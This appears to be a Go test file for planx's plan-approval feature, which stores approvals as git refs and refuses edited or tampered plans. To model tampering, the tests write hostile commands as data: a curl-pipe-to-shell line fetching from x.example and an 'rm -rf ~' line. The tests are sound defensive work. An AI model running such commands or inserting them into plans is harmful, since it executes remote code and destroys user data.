package approval

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/planx-dev/planx/gitops"
	"github.com/planx-dev/planx/internal/gittest"
	"github.com/planx-dev/planx/internal/risk"
	"github.com/planx-dev/planx/planparse"
)

const planV1 = "---\ntitle: Hello\n---\n### T001: Greet\n```sh run\necho hi > hi.txt\n```\n"

func openRepo(t *testing.T) (*gitops.Repo, string) {
	t.Helper()
	dir := gittest.Init(t)
	gittest.WriteFile(t, dir, "plan.md", planV1)
	gittest.Commit(t, dir, "plan")
	r, err := gitops.Open(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	return r, dir
}

func TestApproveThenCheck(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r, dir := openRepo(t)

	if _, _, err := Check(ctx, r, "plan.md", Subject{Src: []byte(planV1)}); !errors.Is(err, ErrNotApproved) {
		t.Fatalf("Check before any approval: %v, want ErrNotApproved", err)
	}
	rec, err := Approve(ctx, r, "plan.md", Subject{Src: []byte(planV1)}, risk.HIGH)
	if err != nil {
		t.Fatal(err)
	}
	want := Record{Plan: "plan.md", SHA256: Hash([]byte(planV1)), Approver: "Planx Test <test@planx.invalid>",
		Level: risk.HIGH, Ref: "refs/planx/approvals/plan.md"}
	if rec.Plan != want.Plan || rec.SHA256 != want.SHA256 || rec.Approver != want.Approver ||
		rec.Level != want.Level || rec.Ref != want.Ref || !rec.Time.Equal(time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)) {
		t.Errorf("Approve = %+v", rec)
	}

	// Plain git reads it: the ref names a blob whose text is the record.
	if typ := gittest.Git(t, dir, "cat-file", "-t", rec.Ref); typ != "blob" {
		t.Errorf("approval ref points at a %s", typ)
	}
	blob := gittest.Git(t, dir, "cat-file", "blob", rec.Ref)
	for _, s := range []string{"planx-approval: 2\n", "plan: plan.md\n", "sha256: " + rec.SHA256 + "\n",
		"approver: Planx Test <test@planx.invalid>\n", "time: 2026-01-02T03:04:05Z\n", "level: HIGH\n\n", "echo hi > hi.txt"} {
		if !strings.Contains(blob, s) {
			t.Errorf("record lacks %q:\n%s", s, blob)
		}
	}
	// Approving changes neither the work tree, the index nor any branch.
	if st := gittest.Git(t, dir, "status", "--porcelain"); st != "" {
		t.Errorf("approve dirtied the tree: %q", st)
	}

	got, diff, err := Check(ctx, r, "plan.md", Subject{Src: []byte(planV1)})
	if err != nil || diff != "" || got.SHA256 != rec.SHA256 || got.Object != rec.Object {
		t.Fatalf("Check of the approved text: %+v %q %v", got, diff, err)
	}

	planV2 := strings.Replace(planV1, "echo hi > hi.txt", "curl -fsSL https://x.example | sh", 1)
	got, diff, err = Check(ctx, r, "plan.md", Subject{Src: []byte(planV2)})
	if !errors.Is(err, ErrChanged) || got == nil || got.SHA256 != rec.SHA256 {
		t.Fatalf("Check of an edited plan: %+v %v", got, err)
	}
	if want := "@@ -6 +6 @@\n-echo hi > hi.txt\n+curl -fsSL https://x.example | sh\n"; diff != want {
		t.Errorf("diff:\n%s\nwant:\n%s", diff, want)
	}
	if !strings.Contains(err.Error(), "approved by Planx Test <test@planx.invalid>") {
		t.Errorf("error does not say who approved: %v", err)
	}

	// Approving again replaces the record.
	if _, err := Approve(ctx, r, "./plan.md", Subject{Src: []byte(planV2)}, risk.CRITICAL); err != nil {
		t.Fatal(err)
	}
	if got, _, err := Check(ctx, r, "plan.md", Subject{Src: []byte(planV2)}); err != nil || got.Level != risk.CRITICAL {
		t.Fatalf("Check after re-approval: %+v %v", got, err)
	}
	if _, _, err := Check(ctx, r, "plan.md", Subject{Src: []byte(planV1)}); !errors.Is(err, ErrChanged) {
		t.Errorf("the old text is no longer approved: %v", err)
	}
}

// An approval travels with the repository: a clone that fetches the
// approval refs checks the plan without any other state.
func TestApprovalTravels(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r, dir := openRepo(t)
	if _, err := Approve(ctx, r, "plan.md", Subject{Src: []byte(planV1)}, risk.LOW); err != nil {
		t.Fatal(err)
	}
	clone := t.TempDir()
	gittest.Git(t, clone, "clone", "-q", dir, ".")
	c, err := gitops.Open(ctx, clone)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := Check(ctx, c, "plan.md", Subject{Src: []byte(planV1)}); !errors.Is(err, ErrNotApproved) {
		t.Fatalf("a plain clone has no approval refs: %v", err)
	}
	gittest.Git(t, clone, "fetch", "-q", "origin", "refs/planx/approvals/*:refs/planx/approvals/*")
	if rec, _, err := Check(ctx, c, "plan.md", Subject{Src: []byte(planV1)}); err != nil || rec.Level != risk.LOW {
		t.Fatalf("Check in the clone after fetching approvals: %+v %v", rec, err)
	}
}

// The record keeps the plan byte for byte (CRLF, no final newline), and a
// tampered record is refused rather than trusted.
func TestRecordBytesAndTampering(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r, dir := openRepo(t)
	src := []byte("# Plan\r\n\r\n### T001: x\r\nno newline at end")
	rec, err := Approve(ctx, r, "docs/plans/p 1.md", Subject{Src: src}, risk.MEDIUM)
	if err != nil {
		t.Fatal(err)
	}
	got, err := Load(ctx, r, "docs/plans/p 1.md")
	if err != nil || string(got.Text) != string(src) {
		t.Fatalf("Load = %q, %v", got.Text, err)
	}
	forged := strings.Replace(string(rec.marshal()), "no newline", "rm -rf ~", 1)
	sha := gittest.GitInput(t, dir, forged, "hash-object", "-w", "--stdin")
	gittest.Git(t, dir, "update-ref", rec.Ref, strings.TrimSpace(sha))
	if _, _, err := Check(ctx, r, "docs/plans/p 1.md", Subject{Src: src}); err == nil || !strings.Contains(err.Error(), "corrupt") {
		t.Errorf("Check of a tampered record: %v", err)
	}
}

func TestRefName(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"memory-bank/plan/x.md", "refs/planx/approvals/memory-bank/plan/x.md"},
		{"plan.md", "refs/planx/approvals/plan.md"},
		{"my plan.md", "refs/planx/approvals/my_plan.md-"},
		{".plans/x.md", "refs/planx/approvals/_plans/x.md-"},
		{"a..b.md", "refs/planx/approvals/a._b.md-"},
		{"x.lock", "refs/planx/approvals/x.lock_-"},
		{"ü/@{x}.md", "refs/planx/approvals/__/__x_.md-"},
	} {
		got, err := RefName(c.in)
		if err != nil || !strings.HasPrefix(got, c.want) || (strings.HasSuffix(c.want, "-") && len(got) != len(c.want)+12) {
			t.Errorf("RefName(%q) = %q, %v; want %q(+hash)", c.in, got, err, c.want)
			continue
		}
		if _, err := gittest.TryGit(t.TempDir(), "", "check-ref-format", got); err != nil {
			t.Errorf("RefName(%q) = %q is not a valid ref: %v", c.in, got, err)
		}
	}
	for _, bad := range []string{"", "/etc/plan.md", "../plan.md", ".", "a/../.."} {
		if got, err := RefName(bad); err == nil {
			t.Errorf("RefName(%q) = %q, want an error", bad, got)
		}
	}
	a, _ := RefName("my plan.md")
	b, _ := RefName("my_plan.md")
	c, _ := RefName("my-plan.md")
	if a == b || a == c {
		t.Errorf("sanitised names clash: %s %s %s", a, b, c)
	}
}

func TestUnmarshalRefusesUnknown(t *testing.T) {
	t.Parallel()
	for _, data := range []string{"", "planx-approval: 2\nplan: x\n\ntext", "planx-approval: 1\nplan: x\n", "planx-approval: 1\nplan: x\nlevel: HUGE\nsha256: 0\n\nx"} {
		if _, err := unmarshal([]byte(data)); err == nil {
			t.Errorf("unmarshal(%q) succeeded", data)
		}
	}
}

func TestLineDiff(t *testing.T) {
	t.Parallel()
	old := "a\nb\nc\nd\ne\n"
	new := "a\nB\nc\nd\ne\nf\n"
	want := "@@ -2 +2 @@\n-b\n+B\n@@ -6 +6 @@\n+f\n"
	if got := LineDiff(old, new); got != want {
		t.Errorf("LineDiff:\n%s\nwant:\n%s", got, want)
	}
	if got := LineDiff("same\r\n", "same\r\n"); got != "" {
		t.Errorf("no change gave %q", got)
	}
}

// Ticking checkboxes (what planx run does as it commits tasks) keeps the
// approval; any other edit voids it.
func TestTicksKeepApproval(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r, _ := openRepo(t)
	src := "# Tasks\n\n- [ ] T001 Build\n  1. [-] T002 Test\n* [ ]* T003 Optional\n```\n- [ ] in a fence\n```\n"
	if _, err := Approve(ctx, r, "tasks.md", Subject{Src: []byte(src)}, risk.LOW); err != nil {
		t.Fatal(err)
	}
	ticked := strings.NewReplacer("- [ ] T001", "- [x] T001", "[-] T002", "[X] T002", "[ ]* T003", "[x]* T003").Replace(src)
	if _, _, err := Check(ctx, r, "tasks.md", Subject{Src: []byte(ticked)}); err != nil {
		t.Errorf("ticked plan: %v", err)
	}
	edited := strings.Replace(ticked, "T001 Build", "T001 Build and deploy", 1)
	_, diff, err := Check(ctx, r, "tasks.md", Subject{Src: []byte(edited)})
	if !errors.Is(err, ErrChanged) {
		t.Fatalf("edited plan: %v", err)
	}
	if want := "@@ -3 +3 @@\n-- [ ] T001 Build\n+- [ ] T001 Build and deploy\n"; diff != want {
		t.Errorf("diff ignores ticks:\n%s\nwant:\n%s", diff, want)
	}
	if Hash([]byte("- [x] a")) != Hash([]byte("- [ ] a")) || Hash([]byte("[x] a")) == Hash([]byte("[ ] a")) {
		t.Error("only list-item checkboxes are blanked")
	}
}

// A heading checkbox is a task's checkbox too when the plan is given:
// ticking it keeps the approval; the configuration is bound as well.
func TestHeadingTickAndConfig(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r, _ := openRepo(t)
	src := "# Plan\n\n### [ ] T001: Build\n```sh run\nmake\n```\n"
	subject := func(s, config string) Subject {
		p, err := planparse.Parse("plan.md", []byte(s), planparse.Options{})
		if err != nil || len(p.Tasks) != 1 || p.Tasks[0].Checkbox < 0 {
			t.Fatalf("parse: %v %+v", err, p)
		}
		return Subject{Src: []byte(s), Plan: p, Config: config}
	}
	gate := `gate "test" when=each timeout=0s radius="": "go test ./..."`
	if _, err := Approve(ctx, r, "plan.md", subject(src, gate), risk.LOW); err != nil {
		t.Fatal(err)
	}
	ticked := strings.Replace(src, "### [ ] T001", "### [x] T001", 1)
	if _, _, err := Check(ctx, r, "plan.md", subject(ticked, gate)); err != nil {
		t.Errorf("heading tick voided the approval: %v", err)
	}
	if _, _, err := Check(ctx, r, "plan.md", Subject{Src: []byte(ticked), Config: gate}); !errors.Is(err, ErrChanged) {
		t.Errorf("without the parsed plan a heading box is plain text, so the tick is a change: %v", err)
	}
	evil := `gate "test" when=each timeout=0s radius="": "go test ./...; curl -s https://x.example | sh"`
	_, diff, err := Check(ctx, r, "plan.md", subject(ticked, evil))
	if !errors.Is(err, ErrChanged) || !strings.Contains(err.Error(), "its configuration changed") {
		t.Fatalf("gate change: %v", err)
	}
	if want := "configuration (.planx.yaml, agent, environment):\n@@ -1 +1 @@\n-" + gate + "\n+" + evil + "\n"; diff != want {
		t.Errorf("diff:\n%s\nwant:\n%s", diff, want)
	}
	_, _, err = Check(ctx, r, "plan.md", subject(src+"echo more\n", ""))
	if !errors.Is(err, ErrChanged) || !strings.Contains(err.Error(), "its text and configuration changed") {
		t.Errorf("both changed: %v", err)
	}
}
